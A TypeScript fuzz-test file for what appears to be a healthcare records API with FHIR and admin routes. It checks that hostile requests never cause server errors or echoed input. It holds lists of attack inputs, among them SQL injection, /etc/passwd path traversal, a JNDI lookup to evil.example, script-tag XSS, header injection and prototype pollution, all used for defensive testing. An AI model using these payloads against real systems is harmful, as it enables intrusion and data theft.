import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { startTestApp, type Response, type Tenant, type TestApp } from '../helpers/app.js';

/**
 * A bounded, seeded fuzz of every route with hostile input: deep nesting, invalid UTF-8, NUL
 * bytes, malformed ids, injection strings, wrong JSON types and random methods. Whatever comes
 * in, the answer is a 2xx or 4xx (501 only for the reserved FHIR paths), never a 500, always in
 * the surface's documented error format, and the server keeps answering afterwards.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 0x5eed_c11c);
const RANDOM_REQUESTS = 320;

/** mulberry32: a tiny deterministic PRNG. */
function prng(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let x = state;
    x = Math.imul(x ^ (x >>> 15), x | 1);
    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const random = prng(SEED);
const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];
const chance = (p: number) => random() < p;

/** Path segments, already URL-safe (percent-encoded where needed). */
const HOSTILE_IDS: readonly string[] = [
  'x'.repeat(65),
  'a'.repeat(150),
  'a'.repeat(250),
  'bad_id',
  'has%20space',
  encodeURIComponent("' OR 1=1--"),
  encodeURIComponent('"; DROP TABLE resources;--'),
  encodeURIComponent('../../etc/passwd'),
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%00',
  'a%00b',
  '%2500',
  encodeURIComponent('${jndi:ldap://evil.example/a}'),
  encodeURIComponent('<script>alert(1)</script>'),
  '%ED%A0%80',
  '%uD800',
  '%D8%00',
  '%F0%9F%98%80',
  encodeURIComponent('\u202eevil\u200b'),
  '%C0%AF',
  '%',
  '%zz',
  '$everything',
  '_history',
  encodeURIComponent('a/b'),
  '%0d%0aSet-Cookie:%20x=1',
  encodeURIComponent('1; SELECT pg_sleep(5)'),
];

/** Query parameter values, already encoded. */
const HOSTILE_VALUES: readonly string[] = [
  encodeURIComponent("' OR 1=1--"),
  encodeURIComponent('"; DROP TABLE resources;--'),
  encodeURIComponent("%' OR '%'='"),
  encodeURIComponent('../../etc/passwd'),
  '%00',
  'a%00b',
  encodeURIComponent('${jndi:ldap://evil.example/a}'),
  encodeURIComponent('<script>alert(1)</script>'),
  'x'.repeat(10_000),
  '%ED%A0%80',
  '%uD800',
  '%F0%9F%98%80',
  encodeURIComponent('\u0301\u0301\u0301'),
  '-1',
  '1e309',
  '99999999999999999999',
  'NaN',
  'ge',
  'eq2024-13-45',
  'ge1990-01-01T25:61:61Z',
  encodeURIComponent('http://x|y|z'),
  encodeURIComponent('Patient/'),
  encodeURIComponent('Patient/../x'),
  '',
  '%',
  '%2',
  encodeURIComponent('\\'),
  encodeURIComponent(','.repeat(50)),
];

const SIMPLIFIED_PARAMS = ['name', 'email', 'phone', 'gender', 'birthDate', 'active', 'count', 'cursor', '_revinclude', 'sort', 'dateFrom', 'unknown', 'name[]', 'name[$ne]', '__proto__', 'constructor'];
const FHIR_PARAMS = ['name', 'family', 'birthdate', 'gender', '_id', '_count', '_sort', '_total', '_cursor', '_tag', '_lastUpdated', 'subject', 'code', 'value-quantity', 'identifier', '_include', '_revinclude', '_has:Observation:subject:code', 'name:exact', 'name:contains', 'name:bogus', 'subject:Patient', 'subject.name', '_filter', 'unknown-param', '__proto__'];

function hostileQuery(params: readonly string[]): string {
  const parts: string[] = [];
  const n = 1 + Math.floor(random() * 3);
  for (let i = 0; i < n; i++) parts.push(`${encodeURIComponent(pick(params)).replace(/%5B/g, '[').replace(/%5D/g, ']')}=${pick(HOSTILE_VALUES)}`);
  if (chance(0.1)) parts.push(parts[0]);
  return parts.join('&');
}

const NESTED = (depth: number) => '['.repeat(depth) + ']'.repeat(depth);
const OBJ_NESTED = (depth: number) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);

/** Raw bodies: syntactically hostile. `malformed` ones must be refused as INVALID_JSON. */
const HOSTILE_RAW_CASES: ReadonlyArray<{ raw: string | Buffer; malformed: boolean }> = [
  { raw: NESTED(65), malformed: true },
  { raw: NESTED(10_000), malformed: true },
  { raw: OBJ_NESTED(100), malformed: true },
  { raw: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]), malformed: true },
  { raw: Buffer.from('{"firstName":"a\u0000","lastName":"b"}'), malformed: true },
  { raw: '{"firstName":"a\\u0000","lastName":"b"}', malformed: true },
  { raw: '{"resourceType":"Patient","id":"\\u0000"}', malformed: true },
  { raw: '{', malformed: true },
  { raw: '', malformed: true },
  { raw: '{"a":1,}', malformed: true },
  { raw: Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]), malformed: false },
  { raw: 'null', malformed: false },
  { raw: '"just a string"', malformed: false },
  { raw: '1e999999', malformed: false },
  { raw: '{"a":1,"a":2}', malformed: false },
  { raw: '[' + '1,'.repeat(5000) + '1]', malformed: false },
];
const HOSTILE_RAW = HOSTILE_RAW_CASES.map(({ raw }) => raw);

/** Parsed bodies: JSON of the wrong type or shape. */
const HOSTILE_JSON: readonly unknown[] = [
  [],
  [1, 2, 3],
  42,
  -1.5e308,
  null,
  true,
  'string',
  {},
  { firstName: [], lastName: {} },
  { firstName: { $ne: null }, lastName: 'x' },
  { firstName: "' OR 1=1--", lastName: '"; DROP TABLE resources;--' },
  { firstName: '<script>alert(1)</script>', lastName: '${jndi:ldap://evil.example/a}' },
  { firstName: '\ud800', lastName: '\udfff\u202e' },
  { firstName: 'x'.repeat(100_000), lastName: 'y' },
  { firstName: 'a', lastName: 'b', birthDate: "1990-01-01' OR '1'='1", email: 'a@b.c; DROP TABLE x' },
  { firstName: 'a', lastName: 'b', address: 'not an object', contact: {}, languages: 'en' },
  JSON.parse('{"__proto__":{"polluted":true},"firstName":"a","lastName":"b"}'),
  { constructor: { prototype: { polluted: true } } },
  { resourceType: 'Patient', id: "' OR 1=1--" },
  { resourceType: 'Patient', meta: 'x' },
  { resourceType: 'Patient', meta: { tag: 'x' } },
  { resourceType: 'Patient', meta: { tag: {} } },
  { resourceType: 'Patient', meta: { tag: [null, 1, 'x'] } },
  { resourceType: 'Patient', meta: [] },
  { resourceType: 'Patient', name: 'string', gender: 42 },
  { resourceType: 'Patient', name: [{ family: 'x'.repeat(50_000) }] },
  { resourceType: 'Patient', birthDate: '2024-02-30', identifier: [{ system: "'; DROP TABLE x;--", value: '\ud800' }] },
  { resourceType: 'Observation', status: 'final', code: { text: 'x' }, subject: { reference: "Patient/' OR 1=1--" } },
  { resourceType: '__proto__' },
  { resourceType: 'Bundle', type: 'transaction', entry: [{ resource: null }] },
  [{ op: 'remove', path: '/resourceType' }],
  [{ op: 'replace', path: '/id', value: 'other' }],
  [{ op: 'add', path: '/meta/tag/-', value: null }],
  [{ op: 'add', path: '/meta/tag', value: 'x' }],
  [{ op: 'add', path: '/__proto__/polluted', value: true }],
  [{ op: 'move', from: '/meta', path: '/meta/child' }],
  [{ op: 'copy', from: '/nope', path: '/x' }],
  [{ op: 'test', path: '/gender', value: 'x' }],
  [{ op: 'bogus', path: '/x' }],
  [{ path: '/x' }],
  [null],
  { meta: { tag: null } },
  { meta: { tag: [null] } },
  { meta: 5 },
  { resourceType: 'Observation' },
  { id: null, resourceType: null },
  { rateLimitPerMinute: -1 },
  { rateLimitPerMinute: 'many' },
  { environment: ['test'] },
  { name: 42, plan: {} },
  { expiresAt: 'yesterday', environment: 'test' },
];

const CONTENT_TYPES = [
  'application/json', 'application/json', 'application/json', 'application/fhir+json', 'application/json-patch+json',
  'application/json; charset=utf-8', 'application/json; charset=latin1', 'text/plain', 'application/xml', 'multipart/form-data',
  ';;;', 'application/jsonx', '', 'application/x-www-form-urlencoded',
];

const METHODS = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'SEARCH', 'LOCK'];
const FHIR_TYPES = ['Patient', 'Observation', 'Encounter', 'patient', 'NotAType', '$export', '_history', '_search', '%00', encodeURIComponent("Patient' OR 1=1--"), 'Patient%2FObservation', 'x'.repeat(300)];
const BAD_KEYS = ['', 'clk_test_short', `clk_test_${'A'.repeat(43)}`, `clk_live_${"'OR1=1--".padEnd(43, 'x')}`, 'x'.repeat(5000), "' OR 1=1--"];

type Surface = 'api' | 'fhir' | 'admin' | 'health' | 'metadata';
interface FuzzRequest {
  method: string;
  url: string;
  surface: Surface;
  key?: string;
  headers?: Record<string, string>;
  raw?: string | Buffer;
  body?: unknown;
  contentType?: string;
  /** The id segment was hostile: nothing can exist there. */
  hostileId?: boolean;
}

let t: TestApp;
let tenant: Tenant;
let patientId: string;
let observationId: string;
const sent: Array<{ request: FuzzRequest; res: Response }> = [];

before(async () => {
  t = await startTestApp();
  tenant = await t.createTenant();
  patientId = (await t.request('POST', '/v1/patients', { key: tenant.keys.test, body: { firstName: 'Fuzz', lastName: 'Target' } })).json.data.id;
  observationId = (await t.request('POST', '/v1/fhir/Observation', {
    key: tenant.keys.test,
    body: { resourceType: 'Observation', status: 'final', code: { text: 'x' }, subject: { reference: `Patient/${patientId}` } },
  })).json.id;
});
after(() => t.close());

function withBody(request: FuzzRequest): FuzzRequest {
  if (chance(0.5)) request.raw = pick(HOSTILE_RAW);
  else request.body = pick(HOSTILE_JSON);
  request.contentType = chance(0.7) ? pick(CONTENT_TYPES.slice(0, 6)) : pick(CONTENT_TYPES);
  return request;
}

/** One random hostile request against one of the route families. */
function generate(): FuzzRequest {
  const id = pick(HOSTILE_IDS);
  const family = pick(['api-collection', 'api-item', 'fhir-type', 'fhir-instance', 'fhir-op', 'admin', 'health', 'metadata', 'api-collection', 'fhir-type', 'fhir-instance'] as const);
  let request: FuzzRequest;
  switch (family) {
    case 'api-collection':
      request = chance(0.5)
        ? { method: 'GET', url: `/v1/patients?${hostileQuery(SIMPLIFIED_PARAMS)}`, surface: 'api' }
        : withBody({ method: 'POST', url: '/v1/patients', surface: 'api' });
      break;
    case 'api-item': {
      const method = pick(['GET', 'PATCH', 'DELETE']);
      request = { method, url: `/v1/patients/${id}${chance(0.3) ? `?${hostileQuery(SIMPLIFIED_PARAMS)}` : ''}`, surface: 'api', hostileId: true };
      if (method === 'PATCH') withBody(request);
      break;
    }
    case 'fhir-type': {
      const type = chance(0.7) ? pick(['Patient', 'Observation']) : pick(FHIR_TYPES);
      request = chance(0.5)
        ? { method: 'GET', url: `/v1/fhir/${type}?${hostileQuery(FHIR_PARAMS)}`, surface: 'fhir' }
        : withBody({ method: 'POST', url: `/v1/fhir/${type}`, surface: 'fhir' });
      break;
    }
    case 'fhir-instance': {
      const method = pick(['GET', 'PUT', 'PATCH', 'DELETE']);
      request = { method, url: `/v1/fhir/${chance(0.8) ? 'Patient' : pick(FHIR_TYPES)}/${id}`, surface: 'fhir', hostileId: true };
      if (method === 'PUT' || method === 'PATCH') withBody(request);
      break;
    }
    case 'fhir-op': {
      const rest = pick(['$everything', '$validate', 'Observation', '_history', `${id}`, '$' + 'x'.repeat(100), '%24everything']);
      request = { method: pick(['GET', 'POST']), url: `/v1/fhir/Patient/${pick([patientId, id])}/${rest}`, surface: 'fhir' };
      if (request.method === 'POST' && chance(0.5)) withBody(request);
      break;
    }
    case 'admin': {
      const adminRoutes = [
        ['POST', '/admin/tenants'],
        ['GET', `/admin/tenants/${id}`],
        ['PATCH', `/admin/tenants/${id}`],
        ['POST', `/admin/tenants/${id}/keys`],
        ['GET', `/admin/tenants/${id}/keys`],
        ['DELETE', `/admin/keys/${id}`],
        ['DELETE', `/admin/tenants/${pick([tenant.tenantId, id])}/${pick(['test', 'live', id])}/resources/${pick(FHIR_TYPES)}/${id}`],
        ['POST', `/admin/tenants/${tenant.tenantId}/keys`],
        ['PATCH', `/admin/tenants/${tenant.tenantId}`],
      ] as const;
      const [method, url] = pick(adminRoutes);
      request = { method, url, surface: 'admin', headers: { 'x-admin-key': chance(0.85) ? t.adminKey : pick(BAD_KEYS) } };
      if (method === 'POST' || method === 'PATCH') {
        withBody(request);
        // Bodies aimed at the real tenant are never valid, so its limits and keys stay as they are.
        if (url.includes(tenant.tenantId) && request.body !== undefined && isPlainObject(request.body)) request.body = [request.body];
      }
      break;
    }
    case 'health':
      request = { method: 'GET', url: chance(0.5) ? '/health' : `/health?${hostileQuery(['x', 'status'])}`, surface: 'health' };
      break;
    case 'metadata':
      request = { method: 'GET', url: chance(0.5) ? '/v1/metadata' : `/v1/fhir/metadata?${hostileQuery(['_format', 'mode', '_summary'])}`, surface: 'metadata' };
      break;
  }
  if (request.surface === 'api' || request.surface === 'fhir') request.key = chance(0.9) ? tenant.keys.test : pick(BAD_KEYS);
  // Random methods, method override headers and NULs in the path now and then.
  if (chance(0.12)) request.method = pick(METHODS);
  if (chance(0.05)) request.headers = { ...request.headers, [pick(['x-http-method-override', 'x-http-method', 'x-method-override'])]: pick(['DELETE', 'GET', '']) };
  if (chance(0.04)) request.url = request.url.replace(/\/([^/?]*)$/, '/$1%00');
  return request;
}

function isPlainObject(value: unknown): boolean {
  return value !== null && typeof value === 'object' && !Array.isArray(value);
}

async function send(request: FuzzRequest): Promise<Response> {
  const res = await t.request(request.method, request.url, {
    key: request.key, headers: request.headers, raw: request.raw, body: request.body, contentType: request.contentType,
  });
  sent.push({ request, res });
  return res;
}

const describeRequest = (request: FuzzRequest, res: Response) =>
  `${request.method} ${request.url.slice(0, 160)} [${request.contentType ?? '-'}] body=${String(request.raw ?? JSON.stringify(request.body) ?? '').slice(0, 120)} → ${res.status} ${res.body.slice(0, 300)}`;

/** The documented answer for this surface, whatever the status. */
function assertWellFormed(request: FuzzRequest, res: Response): void {
  const where = describeRequest(request, res);
  const isFhirPath = request.url.startsWith('/v1/fhir');
  const reserved = res.status === 501 && isFhirPath;
  assert.ok((res.status >= 200 && res.status < 300) || (res.status >= 400 && res.status < 500) || reserved, where);
  assert.match(String(res.headers['x-request-id']), /^req_[a-z0-9]+$/, where);
  if (request.method === 'HEAD' || res.status === 204) {
    assert.equal(res.body, '', where);
    return;
  }
  assert.ok(res.json !== undefined, `not JSON: ${where}`);
  if (res.status >= 400) {
    const outcome = res.json.resourceType === 'OperationOutcome';
    if (isFhirPath) assert.ok(outcome, `expected an OperationOutcome: ${where}`);
    else if (request.surface !== 'metadata') assert.ok(!outcome, where);
    if (outcome) {
      assert.match(String(res.headers['content-type']), /^application\/fhir\+json/, where);
      assert.ok(Array.isArray(res.json.issue) && res.json.issue.length > 0, where);
      for (const issue of res.json.issue) assert.ok(typeof issue.code === 'string' && typeof issue.severity === 'string', where);
      if (reserved) assert.equal(res.json.issue[0].code, 'not-supported', where);
    } else {
      assert.match(String(res.headers['content-type']), /^application\/json/, where);
      assert.deepEqual(Object.keys(res.json).sort(), ['code', 'error', 'issue', 'issues', 'message', 'requestId'], where);
      assert.equal(res.json.requestId, res.headers['x-request-id'], where);
      assert.deepEqual(res.json.issue, res.json.issues, where);
      assert.notEqual(res.json.code, 'INTERNAL_ERROR', where);
    }
    // Error bodies never echo hostile input back.
    for (const marker of ['<script>', 'DROP TABLE', 'jndi:', 'etc/passwd', 'pg_sleep']) assert.ok(!res.body.includes(marker), `echoed ${marker}: ${where}`);
    return;
  }
  // 2xx
  if (isFhirPath || request.surface === 'metadata') {
    assert.equal(typeof res.json.resourceType, 'string', where);
    assert.match(String(res.headers['content-type']), /^application\/fhir\+json/, where);
  } else if (request.surface === 'health') {
    assert.equal(res.json.status, 'ok', where);
  } else {
    assert.ok('data' in res.json && 'meta' in res.json, where);
    assert.equal(res.json.meta.requestId, res.headers['x-request-id'], where);
  }
  if (request.hostileId && (request.method === 'GET' || request.method === 'PATCH' || request.method === 'DELETE')) {
    assert.fail(`a hostile id matched a resource: ${where}`);
  }
}

describe('fuzz', () => {
  test('every hostile id on every id-taking route', async () => {
    for (const id of HOSTILE_IDS) {
      const requests: FuzzRequest[] = [
        { method: 'GET', url: `/v1/patients/${id}`, surface: 'api', key: tenant.keys.test, hostileId: true },
        { method: 'PATCH', url: `/v1/patients/${id}`, surface: 'api', key: tenant.keys.test, body: { lastName: 'x' }, hostileId: true },
        { method: 'DELETE', url: `/v1/patients/${id}`, surface: 'api', key: tenant.keys.test, hostileId: true },
        { method: 'GET', url: `/v1/patients/${id}?_revinclude=Observation:subject`, surface: 'api', key: tenant.keys.test, hostileId: true },
        { method: 'GET', url: `/v1/fhir/Patient/${id}`, surface: 'fhir', key: tenant.keys.test, hostileId: true },
        { method: 'PATCH', url: `/v1/fhir/Patient/${id}`, surface: 'fhir', key: tenant.keys.test, body: [{ op: 'add', path: '/active', value: true }], contentType: 'application/json-patch+json', hostileId: true },
        { method: 'DELETE', url: `/v1/fhir/Patient/${id}`, surface: 'fhir', key: tenant.keys.test, hostileId: true },
        { method: 'PUT', url: `/v1/fhir/Patient/${id}`, surface: 'fhir', key: tenant.keys.test, body: { resourceType: 'Patient' } },
        { method: 'GET', url: `/v1/fhir/${id}`, surface: 'fhir', key: tenant.keys.test },
        { method: 'GET', url: `/v1/fhir/Patient/${id}/$everything`, surface: 'fhir', key: tenant.keys.test },
        { method: 'GET', url: `/admin/tenants/${id}`, surface: 'admin', headers: { 'x-admin-key': t.adminKey }, hostileId: true },
        { method: 'DELETE', url: `/admin/keys/${id}`, surface: 'admin', headers: { 'x-admin-key': t.adminKey }, hostileId: true },
        { method: 'DELETE', url: `/admin/tenants/${tenant.tenantId}/test/resources/Patient/${id}`, surface: 'admin', headers: { 'x-admin-key': t.adminKey }, hostileId: true },
        { method: 'GET', url: `/v1/patients?name=${id}&email=${id}&birthDate=${id}`, surface: 'api', key: tenant.keys.test },
        { method: 'GET', url: `/v1/fhir/Patient?_id=${id}&name=${id}&_sort=${id}`, surface: 'fhir', key: tenant.keys.test },
      ];
      for (const request of requests) {
        const res = await send(request);
        assertWellFormed(request, res);
        // A PUT with an id the FHIR rule rejects never creates anything.
        if (request.method === 'PUT' && res.status === 201) assert.match(decodeURIComponent(id), /^[A-Za-z0-9\-.]{1,64}$/, describeRequest(request, res));
      }
    }
  });

  test('every hostile body on every body-taking route', async () => {
    const patchTargetId = (await t.request('POST', '/v1/patients', { key: tenant.keys.test, body: { firstName: 'Patch', lastName: 'Target' } })).json.data.id;
    const routes: Array<[string, string, Surface, Record<string, string>?]> = [
      ['POST', '/v1/patients', 'api'],
      ['PATCH', `/v1/patients/${patchTargetId}`, 'api'],
      ['POST', '/v1/fhir/Patient', 'fhir'],
      ['PUT', '/v1/fhir/Patient/fuzz-put', 'fhir'],
      ['PATCH', `/v1/fhir/Observation/${observationId}`, 'fhir'],
      ['POST', '/admin/tenants', 'admin', { 'x-admin-key': t.adminKey }],
    ];
    for (const [method, url, surface, headers] of routes) {
      for (const { raw, malformed } of HOSTILE_RAW_CASES) {
        const request: FuzzRequest = { method, url, surface, headers, raw, contentType: 'application/json', key: surface === 'admin' ? undefined : tenant.keys.test };
        const res = await send(request);
        assertWellFormed(request, res);
        if (malformed) {
          assert.equal(res.status, 400, describeRequest(request, res));
          if (surface === 'fhir') assert.equal(res.json.issue[0].code, 'structure', describeRequest(request, res));
          else assert.equal(res.json.code, 'INVALID_JSON', describeRequest(request, res));
        }
      }
      for (const body of HOSTILE_JSON) {
        const request: FuzzRequest = { method, url, surface, headers, body, contentType: method === 'PATCH' && Array.isArray(body) ? 'application/json-patch+json' : 'application/fhir+json', key: surface === 'admin' ? undefined : tenant.keys.test };
        const res = await send(request);
        assertWellFormed(request, res);
        // What the server accepts, it stores as data: injection strings come back verbatim.
        if (res.status === 201 && url === '/v1/patients') {
          const sentBody = body as { firstName: string; lastName: string };
          assert.equal(res.json.data.firstName, sentBody.firstName);
          const read = await t.request('GET', `/v1/patients/${res.json.data.id}`, { key: tenant.keys.test });
          assert.equal(read.json.data.lastName, res.json.data.lastName);
        }
      }
    }
  });

  test(`${RANDOM_REQUESTS} random hostile requests (seed ${SEED})`, async () => {
    for (let i = 0; i < RANDOM_REQUESTS; i++) {
      const request = generate();
      const res = await send(request);
      assertWellFormed(request, res);
      if (i % 80 === 79) assert.equal((await t.request('GET', '/health')).status, 200, `health after ${i + 1} requests`);
    }
  });

  test('the server is intact afterwards', async (context) => {
    const health = await t.request('GET', '/health');
    assert.equal(health.status, 200);
    assert.equal(health.json.status, 'ok');
    const patient = await t.request('GET', `/v1/patients/${patientId}`, { key: tenant.keys.test });
    assert.equal(patient.status, 200);
    assert.equal(patient.json.data.firstName, 'Fuzz');
    assert.equal((await t.request('GET', `/v1/fhir/Observation/${observationId}`, { key: tenant.keys.test })).status, 200);
    const created = await t.request('POST', '/v1/patients', { key: tenant.keys.test, body: { firstName: 'After', lastName: 'Fuzz' } });
    assert.equal(created.status, 201);
    // No table was dropped and nothing outside the tenant's partition was written.
    const partitions = await t.database.db.pool.query('SELECT DISTINCT partition_id FROM resources');
    const own = await t.database.db.pool.query('SELECT partition_id FROM api_keys WHERE organisation_id = $1', [tenant.tenantId]);
    const ownIds = new Set(own.rows.map((row: { partition_id: number }) => row.partition_id));
    for (const row of partitions.rows) assert.ok(ownIds.has(row.partition_id), 'every stored resource is in the fuzzed tenant\'s partitions');
    // Nothing logged a server error.
    const failures = t.logs.filter((line) => /"level":5\d/.test(line));
    assert.deepEqual(failures, [], failures.join('\n').slice(0, 2000));
    assert.ok(sent.length >= 300, `${sent.length} requests sent`);
    const histogram = new Map<number, number>();
    for (const { res } of sent) histogram.set(res.status, (histogram.get(res.status) ?? 0) + 1);
    context.diagnostic(`${sent.length} requests, statuses: ${[...histogram].sort(([x], [y]) => x - y).map(([status, n]) => `${status}×${n}`).join(' ')}`);
    assert.ok(!histogram.has(500), 'no 500');
    // The fuzz reached past authentication and parsing into the handlers.
    for (const status of [200, 201, 400, 404, 422]) assert.ok((histogram.get(status) ?? 0) > 0, `some ${status}`);
  });
});
